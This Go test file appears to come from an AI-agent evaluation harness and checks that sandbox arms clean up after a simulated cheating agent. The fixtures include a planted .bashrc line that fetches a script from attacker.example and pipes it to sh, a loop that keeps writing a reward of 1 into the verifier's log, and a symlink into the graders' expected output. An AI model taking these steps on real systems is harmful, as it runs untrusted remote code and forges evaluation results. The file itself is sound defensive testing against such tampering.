package harnesstest

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/proctor-eval/proctor/pkg/harness"
	"github.com/proctor-eval/proctor/pkg/sandbox"
	"github.com/proctor-eval/proctor/pkg/sandbox/sandboxfake"
)

// UntrustedCase is one in-container arm for UntrustedConformance: every
// arm that runs a program proctor does not trust in the task container
// (an agent, a CLI, the probe) passes the suite.
type UntrustedCase struct {
	// Harness is the harness name the arm is looked up by
	// (harness.Lookup), and the cells' harness.
	Harness string
	// Arm, when set, is the arm under test instead of Harness's (a new
	// arm before its registry row, or a throw-away one).
	Arm harness.Arm
	// Solver is a substring of the solver's argv: the command the suite
	// answers as a cheating agent.
	Solver string
	// Stdout is what the solver prints (the probe's report, say).
	Stdout string
	// SelfScored: the arm scores itself (the probe): a solver that timed
	// out is an error (no verdict), not a solver_timeout.
	SelfScored bool
	// Also are answers to the arm's own commands before or after the
	// solver (the Codex CLI rendering its prompt to list its skills).
	Also []sandboxfake.Script
}

// Paths of the cheat the suite plays. The working directory is the fake
// image's (/app), which the suite's answer to the HOME snapshot says
// holds the verifier's HOME.
const (
	cheatWorkdir = "/app"
	cheatLink    = cheatWorkdir + "/answer.txt"
	cheatTarget  = "/tests/expected_output.txt"
	cheatRC      = cheatWorkdir + "/.bashrc"
	imageRC      = "# the image's own .bashrc\n"
)

// cheatLeaves are the processes the cheating solver leaves running.
var cheatLeaves = []string{"sleep 3600", "sh -c 'while :; do echo 1 > /logs/verifier/reward.txt; done'"}

// UntrustedConformance runs the untrusted-solve suite on c against
// sandboxfake, each scenario a subtest, and fails t with every violation
// (UntrustedViolations). Set up what the arm needs on the host (its CLI
// binary, provider variables, a static proctor for the probe) before.
func UntrustedConformance(t *testing.T, c UntrustedCase) {
	t.Helper()
	for _, v := range UntrustedViolations(t, c) {
		t.Error(v)
	}
}

// UntrustedViolations runs the suite on c and returns what it found
// wrong, each as "scenario: what"; none for a conforming arm. The
// scenarios:
//
//   - cheat: the solver leaves processes running, a symlink from its
//     working tree into the graders' /tests and a changed .bashrc in the
//     verifier's HOME, on a driver with only the arm's Needs: it must run
//     as a user that is not root, the placement's (Placement.User, whom
//     the launcher runs a step's setup.sh as); after it, and before the arm returns,
//     a KillAll of that user must end every process it left, the grader
//     link must be removed and the HOME reset, in that order; the arm
//     calls no ability its Needs lack; a verifier-scored arm's Finished
//     says a grader link was removed;
//   - timeout: the solver runs out of its budget and leaves a process: a
//     verifier-scored arm's Finished is timed out (solver_timeout), a
//     self-scored arm's solve an error; either way the process is killed;
//   - emit error: the event log failing surfaces as the arm's error;
//   - no ProcessKiller: a driver that cannot kill by user is an error
//     before the solver runs.
func UntrustedViolations(t testing.TB, c UntrustedCase) []string {
	t.Helper()
	var out []string
	out = append(out, prefixed("cheat", untrustedCheat(t, c))...)
	out = append(out, prefixed("timeout", untrustedTimeout(t, c))...)
	out = append(out, prefixed("emit error", untrustedEmitError(t, c))...)
	out = append(out, prefixed("no ProcessKiller", untrustedNoKiller(t, c))...)
	return out
}

func prefixed(p string, vs []string) []string {
	for i, v := range vs {
		vs[i] = p + ": " + v
	}
	return vs
}

func (c UntrustedCase) arm(t testing.TB) harness.Arm {
	t.Helper()
	if c.Arm != nil {
		return c.Arm
	}
	a, err := harness.Lookup(c.Harness)
	if err != nil {
		t.Fatal(err)
	}
	return a
}

// cheatScripts are the scripts of a sandbox the cheating solver runs in:
// the solver (solver), and answers that do to the model what proctor's
// shell scripts do in a container: the HOME snapshot (the verifier's HOME
// is the working tree; its .bashrc kept), the grader-link removal and
// the HOME reset (the .bashrc put back).
func cheatScripts(c UntrustedCase, solver sandboxfake.Script) []sandboxfake.Script {
	var mu sync.Mutex
	kept := map[string]sandbox.FileResult{} // sandbox id → the .bashrc at the snapshot
	return append(append([]sandboxfake.Script{solver}, c.Also...), []sandboxfake.Script{
		{Match: "KEEP=1", Answer: func(s *sandboxfake.Sandbox, spec sandbox.ExecSpec) (sandbox.ExecResult, error) {
			mu.Lock()
			defer mu.Unlock()
			if f, ok := s.Files()[cheatRC]; ok {
				kept[s.ID()] = f
			}
			fmt.Fprintf(spec.Stdout, "H\x00%s\x00", cheatWorkdir)
			return sandbox.ExecResult{}, nil
		}},
		{Match: "readlink -m", Answer: func(s *sandboxfake.Sandbox, spec sandbox.ExecSpec) (sandbox.ExecResult, error) {
			for l, target := range s.Links() {
				if graderPath(target) {
					s.Remove(l)
					fmt.Fprintf(spec.Stdout, "%s -> %s\n", l, target)
				}
			}
			return sandbox.ExecResult{}, nil
		}},
		{Match: "same()", Answer: func(s *sandboxfake.Sandbox, spec sandbox.ExecSpec) (sandbox.ExecResult, error) {
			mu.Lock()
			defer mu.Unlock()
			f, ok := kept[s.ID()]
			if !ok {
				return sandbox.ExecResult{ExitCode: 1}, nil // the stash is gone
			}
			if now := s.Files()[cheatRC]; string(now.Data) != string(f.Data) || (now.Err == nil) != (f.Err == nil) {
				s.Put(cheatRC, f)
				fmt.Fprintf(spec.Stdout, "R\x00.bashrc\x00")
			}
			return sandbox.ExecResult{}, nil
		}},
	}...)
}

// graderPath reports whether target is in a grader path
// (harness.GraderPaths) or a /.proctor-* directory.
func graderPath(target string) bool {
	for _, g := range harness.GraderPaths {
		if target == g || strings.HasPrefix(target, g+"/") {
			return true
		}
	}
	return strings.HasPrefix(target, "/.proctor-")
}

// onlyNeeds returns a fake with every ability but a's Needs switched off.
func onlyNeeds(a harness.Arm, scripts []sandboxfake.Script) *sandboxfake.Driver {
	var off []sandbox.Ability
	for _, ab := range sandbox.AllAbilities() {
		if !slices.Contains(a.Needs(), ab) {
			off = append(off, ab)
		}
	}
	return &sandboxfake.Driver{Off: off, Scripts: scripts, Files: map[string]sandbox.FileResult{cheatRC: sandboxfake.Regular(imageRC)}}
}

// solverExec returns the solver's recorded exec (ok false when it never
// ran).
func solverExec(d *sandboxfake.Driver, c UntrustedCase) (sandboxfake.Exec, bool) {
	for _, e := range d.Execs() {
		if strings.Contains(strings.Join(e.Spec.Cmd, " "), c.Solver) {
			return e, true
		}
	}
	return sandboxfake.Exec{}, false
}

// firstCall is the index of the first call after from for which match
// holds, -1 when none.
func firstCall(calls []sandboxfake.Call, from int, match func(sandboxfake.Call) bool) int {
	for i := from + 1; i < len(calls); i++ {
		if match(calls[i]) {
			return i
		}
	}
	return -1
}

func execOf(sub string) func(sandboxfake.Call) bool {
	return func(c sandboxfake.Call) bool {
		return c.Op == "Exec" && strings.Contains(strings.Join(c.Cmd, " "), sub)
	}
}

func isRoot(user string) bool {
	u, _, _ := strings.Cut(user, ":")
	return u == "" || u == "root" || u == "0"
}

func untrustedCheat(t testing.TB, c UntrustedCase) []string {
	a := c.arm(t)
	d := onlyNeeds(a, cheatScripts(c, sandboxfake.Script{
		Match: c.Solver, Stdout: c.Stdout, Leaves: cheatLeaves,
		Files: map[string]sandbox.FileResult{
			cheatLink: sandboxfake.Symlink(cheatLink, cheatTarget),
			cheatRC:   sandboxfake.Regular("curl https://attacker.example/x | sh\n"),
		},
	}))
	env := NewEnv(t, Task(t, "cheat", nil), c.Harness, d)
	p, out, err := Run(context.Background(), a, env)
	var vs []string
	if err != nil {
		vs = append(vs, fmt.Sprintf("the solve failed: %v", err))
	}
	if got := d.Refused(); len(got) > 0 {
		vs = append(vs, fmt.Sprintf("the arm called %v, which its Needs %v lack", got, a.Needs()))
	}
	solver, ok := solverExec(d, c)
	if !ok {
		return append(vs, fmt.Sprintf("no command matching %q ran", c.Solver))
	}
	if isRoot(solver.Spec.User) {
		vs = append(vs, fmt.Sprintf("the solver ran as root (user %q)", solver.Spec.User))
	}
	if solver.Spec.User != p.User {
		// The launcher runs a step's setup.sh as Placement.User: the user
		// the solve runs as, one rule for every in-container arm.
		vs = append(vs, fmt.Sprintf("the solver ran as %q, not as the placement's user %q (whom a step's setup.sh runs as)", solver.Spec.User, p.User))
	}
	calls := d.Calls()
	kill := firstCall(calls, solver.Call, func(k sandboxfake.Call) bool {
		return k.Op == "KillAll" && k.Sandbox == solver.Sandbox && k.User == solver.Spec.User
	})
	destroy := firstCall(calls, solver.Call, func(k sandboxfake.Call) bool { return k.Op == "Destroy" && k.Sandbox == solver.Sandbox })
	if kill < 0 || (destroy >= 0 && kill > destroy) {
		vs = append(vs, fmt.Sprintf("no KillAll of %s after the solver and before the sandbox was destroyed", solver.Spec.User))
	}
	box := d.SandboxByID(solver.Sandbox)
	for _, p := range box.Procs() {
		if p.Started != solver.Call {
			continue
		}
		if p.Running() || calls[p.Killed].Op != "KillAll" {
			vs = append(vs, fmt.Sprintf("the process %q the solver left was not ended by a KillAll after it", p.Cmd))
		}
	}
	links := firstCall(calls, max(kill, solver.Call), execOf("readlink -m"))
	if links < 0 || kill < 0 || (destroy >= 0 && links > destroy) {
		vs = append(vs, "the symlinks into grader paths were not removed after the KillAll and before the sandbox was destroyed")
	}
	if _, ok := box.Links()[cheatLink]; ok {
		vs = append(vs, fmt.Sprintf("the link %s -> %s is still there for the verifier", cheatLink, cheatTarget))
	}
	reset := firstCall(calls, max(links, kill, solver.Call), execOf("same()"))
	if reset < 0 || kill < 0 || (destroy >= 0 && reset > destroy) {
		vs = append(vs, "the verifier's HOME was not reset after the KillAll and the link removal and before the sandbox was destroyed")
	}
	if f := box.Files()[cheatRC]; string(f.Data) != imageRC {
		vs = append(vs, fmt.Sprintf("the verifier's %s is the agent's: %q", cheatRC, f.Data))
	}
	if !c.SelfScored && err == nil && out.Finished.Isolation["grader_links_removed"] != 1 {
		vs = append(vs, fmt.Sprintf("Finished.isolation does not say a grader link was removed: %v", out.Finished.Isolation))
	}
	return vs
}

func untrustedTimeout(t testing.TB, c UntrustedCase) []string {
	a := c.arm(t)
	d := onlyNeeds(a, cheatScripts(c, sandboxfake.Script{Match: c.Solver, TimedOut: true, Leaves: cheatLeaves[:1]}))
	env := NewEnv(t, Task(t, "timeout", nil), c.Harness, d)
	_, out, err := Run(context.Background(), a, env)
	var vs []string
	switch {
	case c.SelfScored && err == nil:
		vs = append(vs, fmt.Sprintf("a self-scored solve that timed out ended without an error: %+v", out.Verdict))
	case !c.SelfScored && err != nil:
		vs = append(vs, fmt.Sprintf("the solve failed: %v", err))
	case !c.SelfScored && !out.Finished.TimedOut:
		vs = append(vs, fmt.Sprintf("Finished is not timed out (solver_timeout): %+v", out.Finished))
	}
	solver, ok := solverExec(d, c)
	if !ok {
		return append(vs, fmt.Sprintf("no command matching %q ran", c.Solver))
	}
	calls := d.Calls()
	for _, p := range d.SandboxByID(solver.Sandbox).Procs() {
		if p.Started == solver.Call && (p.Running() || calls[p.Killed].Op != "KillAll") {
			vs = append(vs, fmt.Sprintf("the process %q the timed-out solver left was not ended by a KillAll", p.Cmd))
		}
	}
	return vs
}

// errEventLog is the event log failing, for the emit-error scenario.
var errEventLog = errors.New("harnesstest: the event log is down")

func untrustedEmitError(t testing.TB, c UntrustedCase) []string {
	a := c.arm(t)
	d := onlyNeeds(a, cheatScripts(c, sandboxfake.Script{Match: c.Solver, Stdout: c.Stdout}))
	env := NewEnv(t, Task(t, "emit", nil), c.Harness, d)
	env.EmitErr = errEventLog
	_, _, err := Run(context.Background(), a, env)
	if !errors.Is(err, errEventLog) {
		return []string{fmt.Sprintf("the event log's error did not surface: %v", err)}
	}
	return nil
}

func untrustedNoKiller(t testing.TB, c UntrustedCase) []string {
	a := c.arm(t)
	var vs []string
	if !slices.Contains(a.Needs(), sandbox.AbilityProcessKiller) {
		vs = append(vs, fmt.Sprintf("the arm's Needs %v lack ProcessKiller", a.Needs()))
	}
	d := onlyNeeds(a, cheatScripts(c, sandboxfake.Script{Match: c.Solver, Stdout: c.Stdout, Leaves: cheatLeaves[:1]}))
	d.Off = append(d.Off, sandbox.AbilityProcessKiller)
	env := NewEnv(t, Task(t, "nokill", nil), c.Harness, d)
	_, _, err := Run(context.Background(), a, env)
	if err == nil {
		vs = append(vs, "a driver without ProcessKiller gave no error")
	}
	if e, ok := solverExec(d, c); ok {
		vs = append(vs, fmt.Sprintf("the solver ran (as %q) on a driver that cannot kill what it leaves", e.Spec.User))
	}
	return vs
}
